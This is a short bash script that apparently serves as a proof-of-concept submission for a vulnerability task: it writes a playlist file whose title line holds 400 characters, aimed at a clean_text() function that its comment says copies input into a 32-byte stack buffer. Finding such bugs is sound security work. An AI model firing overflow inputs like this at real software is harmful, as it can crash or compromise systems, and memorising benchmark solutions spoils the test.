#!/bin/bash
# clean_text() copies any number of printable characters into 32 bytes on the stack.
set -eu
{
    echo 'playlist 1'
    printf 'title %s\n' "$(head -c 400 /dev/zero | tr '\0' 'a')"
    echo 'end'
} > /work/submission
